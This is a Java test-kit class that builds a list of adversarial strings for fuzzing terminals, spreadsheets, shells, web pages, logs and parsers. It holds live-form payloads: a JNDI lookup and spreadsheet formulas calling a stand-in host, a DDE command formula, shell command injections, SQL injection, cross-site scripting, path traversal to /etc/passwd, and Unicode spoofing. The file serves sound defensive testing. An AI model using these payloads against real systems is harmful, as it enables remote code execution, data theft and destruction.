package org.cadastre.testkit;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/// What a device might call itself to harm whoever looks at it: more than 500 texts against
/// terminals, spreadsheets, shells, pages, logs and parsers.
public final class HostileStrings {
  private static final int LONG = 200;

  private static final List<String> TERMINAL =
      List.of(
          "\u001b[2J\u001b[H",
          "\u001b[31mred\u001b[0m",
          "\u001b]0;title\u0007",
          "\u001b]8;;http://evil.example/\u001b\\click\u001b]8;;\u001b\\",
          "\u001b]52;c;ZXZpbA==\u0007",
          "\u001bP+q544e\u001b\\",
          "\u001b[6n",
          "\u001b[?1049h",
          "\u001b[1;1Hroot@core-1:~#",
          "\u001bc",
          "\u009b31m",
          "\u009d0;t\u009c",
          "\u001b[8mhidden",
          "a\bb\b\b\b",
          "100%\rdone",
          "\u001b#8",
          "\u001b[10000000@",
          "\u001b(0lqqk",
          "\u001b_apc\u001b\\",
          "\u001b[200~paste\u001b[201~");

  private static final List<String> TABLES =
      List.of(
          "=1+1",
          "=cmd|' /C calc'!A0",
          "+1+1",
          "-1+1",
          "-2",
          "@SUM(A1)",
          "\t=1+1",
          "\r=1+1",
          "=HYPERLINK(\"http://evil.example\")",
          "=IMPORTXML(\"http://evil.example\",\"//a\")",
          "%0A=1+1",
          "a,b",
          "\"",
          "\"\"",
          "\"=1+1\"",
          "a\"b",
          "a\",=1+1",
          "a\n=1+1",
          "a\r\n=1+1",
          ";=1+1",
          "a;b;\"c",
          "|x|",
          "a\tb",
          "'=1+1",
          " =1+1",
          "\uff1d1+1",
          "\u00a0=1+1");

  private static final List<String> PROGRAMS =
      List.of(
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "</td></tr></table>",
          "<!--",
          "]]>",
          "&lt;&#x3c;",
          "javascript:alert(1)",
          "{{7*7}}",
          "${7*7}",
          "${jndi:ldap://evil.example/a}",
          "#{7*7}",
          "<%= 7*7 %>",
          "; reboot",
          "$(reboot)",
          "`reboot`",
          "| reboot",
          "&& reboot",
          "> /etc/passwd",
          "'; reboot; '",
          "\\'; reboot; \\'",
          "!!",
          "*",
          "~root",
          "-rf /",
          "--home=/",
          "-o json",
          "' OR '1'='1",
          "'; DROP TABLE ci; --",
          "%' ESCAPE '\\",
          "\\",
          "\\\\",
          "\\n",
          "\\u0000",
          "\\x1b[31m",
          "%s%s%s%n",
          "%1$s %99$s",
          "{0} {} {x}",
          "../../../../etc/passwd",
          "..\\..\\windows",
          "/etc/passwd",
          "file:///etc/passwd",
          "C:\\",
          "con",
          ".",
          "..",
          "name/../x");

  private static final List<String> FORMATS =
      List.of(
          "\",\"admin\":true,\"x\":\"",
          "\"}]}",
          "{\"a\":1}",
          "[]",
          "null",
          "true",
          "NaN",
          "1e999",
          "0x1F",
          "007",
          "- a",
          "a: b",
          "*anchor",
          "&anchor",
          "!!java.lang.String x",
          "!tag",
          "? key",
          "# comment",
          "---",
          "...",
          "yes",
          "~",
          "|-",
          "> folded",
          "%YAML 1.2",
          "a #b",
          "x\"} 1\nevil_metric{a=\"",
          "x\\\"} 1",
          "2026-11-21 08:00:00 ERROR forged",
          "x\n2026-11-21 08:00:00 ERROR forged",
          "x\r\nx",
          "x\n\n\n",
          "? run\n rm",
          "= 0 complete",
          "part 2 claim",
          "end 1\ndigest 0",
          "| a | b |\n|---|---|",
          "[x](javascript:alert(1))",
          "![x](http://evil.example/x.png)",
          "```");

  private static final List<String> UNICODE =
      List.of(
          "\u202egpj.exe",
          "a\u202db\u202c",
          "\u2066a\u2069",
          "\u200ba\u200c\u200d",
          "\ufeffa",
          "a\u2028b",
          "a\u2029b",
          "a\u0085b",
          "\u061c\u200e\u200f",
          "\u0627\u0644\u0639\u0631\u0628\u064a\u0629",
          "\u05e9\u05dc\u05d5\u05dd 1",
          "Z\u0351\u036b\u0343\u036a".repeat(20),
          "\ud83d\ude00",
          "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67",
          "\ud83c\uddef\ud83c\uddf5",
          "\ud800",
          "\udc00",
          "a\ud83d",
          "\udc00\ud800",
          "\uffff",
          "\ufffe",
          "\ufffd",
          "\udb40\udc41\udb40\udc42",
          "\u00ad\u034f\u180e\u3164",
          "\u0130\u0131\u017f\u212a",
          "\u1e9e\u00df",
          "e\u0301\u00e9",
          "\u0410dmin",
          "\u2064\u206a\u206f",
          "\ufff9a\ufffab\ufffb",
          "\ue000\uf8ff",
          "\ud834\udd73",
          "\u0e33\u0eb3",
          "\u1160\u115f");

  private HostileStrings() {}

  /// Each once; some hold halves of surrogate pairs.
  public static List<String> all() {
    var all = new LinkedHashSet<String>();
    for (var list : List.of(TERMINAL, TABLES, PROGRAMS, FORMATS, UNICODE)) {
      for (var text : list) {
        all.add(text);
        all.add("core-1" + text);
        all.add(text + "core-1");
      }
    }
    controls(all);
    large(all);
    return new ArrayList<>(all);
  }

  /// Those that every encoding can hold: without halves of surrogate pairs.
  public static List<String> encodable() {
    return all().stream()
        .filter(
            text -> text.codePoints().noneMatch(c -> Character.getType(c) == Character.SURROGATE))
        .toList();
  }

  private static void controls(Set<String> all) {
    for (char c = 0; c < 0x20; c++) {
      all.add("a" + c + "b");
    }
    for (char c = 0x7f; c <= 0xa0; c++) {
      all.add("a" + c + "b");
    }
    for (char c = 0x2000; c <= 0x206f; c++) {
      if (!Character.isLetterOrDigit(c)) {
        all.add("x" + c + "y");
      }
    }
  }

  private static void large(Set<String> all) {
    all.add("x".repeat(LONG));
    all.add("\u001b[1m".repeat(LONG / 4));
    all.add("\"".repeat(LONG));
    all.add("=".repeat(LONG));
    all.add("\n".repeat(LONG) + "x");
    all.add("\u202e".repeat(LONG));
    all.add("\ud83d\ude00".repeat(LONG / 2));
    all.add(",".repeat(LONG));
    all.add("\\".repeat(LONG));
    all.add("[".repeat(LONG));
  }
}
